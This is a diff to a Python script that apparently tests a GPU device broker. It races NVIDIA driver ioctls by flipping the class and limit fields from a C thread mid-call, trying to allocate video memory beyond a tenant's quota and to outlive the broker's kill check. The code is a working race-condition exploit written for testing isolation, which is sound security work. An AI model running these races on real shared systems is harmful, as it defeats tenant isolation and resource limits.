@@ -34,12 +34,42 @@ def out(**kw) -> None:
     print(json.dumps(kw), flush=True)
 
 
-def flipper(buf, offset: int, values: list[bytes], stop: threading.Event) -> None:
-    """Rewrite buf[offset:] with each of values in turn until stop is set."""
-    addr = ctypes.addressof(buf) + offset
-    while not stop.is_set():
-        for v in values:
-            ctypes.memmove(addr, v, len(v))
+_FLIP = None
+
+
+def _flip_lib():
+    """scripts/gpu/flip.c, built here: a C loop, so the rewriting thread holds no GIL and
+    runs in parallel with the ioctl (a Python loop spends most of its time between writes)."""
+    global _FLIP
+    if _FLIP is None:
+        src = os.path.join(os.path.dirname(os.path.abspath(__file__)), "flip.c")
+        so = f"/tmp/devbroker-flip-{os.getpid()}.so"
+        if os.system(f"gcc -O2 -shared -fPIC -o {so} {src}") != 0:
+            raise RuntimeError("cannot build flip.c (gcc)")
+        _FLIP = ctypes.CDLL(so)
+        _FLIP.flip.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p,
+                               ctypes.c_ulong, ctypes.c_void_p]
+    return _FLIP
+
+
+class Flipper:
+    """Rewrites buf[offset:offset+len(a)] alternately with a and b while in use."""
+
+    def __init__(self, buf, offset: int, a: bytes, b: bytes):
+        self.stop = ctypes.c_int(0)
+        lib = _flip_lib()
+        self.t = threading.Thread(target=lib.flip, args=(
+            ctypes.addressof(buf) + offset, a, b, len(a), ctypes.addressof(self.stop)),
+            daemon=True)
+
+    def __enter__(self):
+        self.t.start()
+        return self
+
+    def __exit__(self, *exc):
+        self.stop.value = 1
+        self.t.join()
+        return False
 
 
 def nvos02_class(tries: int = 400) -> None:
@@ -67,35 +97,35 @@ def nvos02_class(tries: int = 400) -> None:
         buf = ctypes.create_string_buffer(raw, len(raw))
         ps = v.spec.by_name["params"].offset
         cls_off = ps + params.spec.by_name["hClass"].offset
-        lim_off = ps + params.spec.by_name["limit"].offset
-        evil = (0x40).to_bytes(4, "little")
-        stop = threading.Event()
-        t = threading.Thread(target=flipper, args=(buf, cls_off, [evil, (0x71).to_bytes(4, "little")],
-                                                   stop), daemon=True)
-        t2 = threading.Thread(target=flipper, args=(buf, lim_off, [(24 * GiB - 1).to_bytes(8, "little"),
-                                                                   ((2 << 20) - 1).to_bytes(8, "little")],
-                                                    stop), daemon=True)
-        t.start(), t2.start()
-        try:
-            fcntl.ioctl(gfd, iowr(spec.number, len(raw)), buf, True)
-            err = 0
-        except OSError as e:
-            err = e.errno
-        stop.set()
-        t.join(), t2.join()
+        end = ps + params.spec.by_name["limit"].offset + 8
+        # hClass, flags, pMemory, limit are one block: flip it whole, so that the kernel reads
+        # either the decided call or a consistent 24 GiB non-contiguous video-memory request.
+        good = raw[cls_off:end]
+        evil = bytearray(good)
+        evil[0:4] = (0x40).to_bytes(4, "little")
+        evil[4:8] = (0).to_bytes(4, "little")
+        evil[-8:] = (24 * GiB - 1).to_bytes(8, "little")
+        with Flipper(buf, cls_off, bytes(evil), good):
+            try:
+                fcntl.ioctl(gfd, iowr(spec.number, len(raw)), buf, True)
+                err = 0
+            except OSError as e:
+                err = e.errno
         got = v.spec.decode(buf.raw)
         st = nvs.name(got.params.status) if not err else f"errno {err}"
         statuses[st] = statuses.get(st, 0) + 1
+        # The driver writes the parameters back as it read them: NV_OK with class 0x40 means
+        # the kernel allocated the rewritten request (the broker's quota cannot have
+        # allowed 24 GiB on an 8 GiB tenant).
+        if not err and got.params.status == nvs.NV_OK and got.params.hClass == 0x40:
+            won += 1
+            out(attack="nvos02-class", result="won-race", note="the broker should kill this "
+                "process now", limit=int(got.params.limit))
+            time.sleep(3)  # the broker's quota watch looks 50 ms and 1 s after the call
+            out(attack="nvos02-class", result="escaped", detail="still alive 3 s after "
+                "allocating past the quota")
+            return
         if not err and got.params.status == nvs.NV_OK:
-            mem = c.memory(g["hsubdevice"])
-            if mem["used"] > 20 * GiB:
-                won += 1
-                out(attack="nvos02-class", result="won-race", note="holding; the broker should "
-                    "kill this process now", used=mem["used"])
-                time.sleep(3)  # the broker's quota watch runs within 1 s
-                out(attack="nvos02-class", result="escaped", used=mem["used"],
-                    detail="still alive 3 s after allocating past the quota")
-                return
             c.free(g["hdevice"], h)
     out(attack="nvos02-class", result="not-won", tries=tries, statuses=statuses)
 
@@ -120,18 +150,12 @@ def root_class(tries: int = 300) -> None:
         poff = v.by_name["pAllocParms"].offset
         ctypes.memmove(ctypes.addressof(buf) + poff,
                        ctypes.addressof(mem).to_bytes(8, "little"), 8)
-        stop = threading.Event()
-        t = threading.Thread(target=flipper, args=(buf, off, [(0x40).to_bytes(4, "little"),
-                                                              (0x41).to_bytes(4, "little")], stop),
-                             daemon=True)
-        t.start()
-        try:
-            fcntl.ioctl(fd, iowr(spec.number, len(raw)), buf, True)
-            err = 0
-        except OSError as e:
-            err = e.errno
-        stop.set()
-        t.join()
+        with Flipper(buf, off, (0x40).to_bytes(4, "little"), (0x41).to_bytes(4, "little")):
+            try:
+                fcntl.ioctl(fd, iowr(spec.number, len(raw)), buf, True)
+                err = 0
+            except OSError as e:
+                err = e.errno
         got = v.decode(buf.raw)
         key = f"errno {err}" if err else f"{nvs.name(got.status)} class-read-back {got.hClass:#x}"
         results[key] = results.get(key, 0) + 1
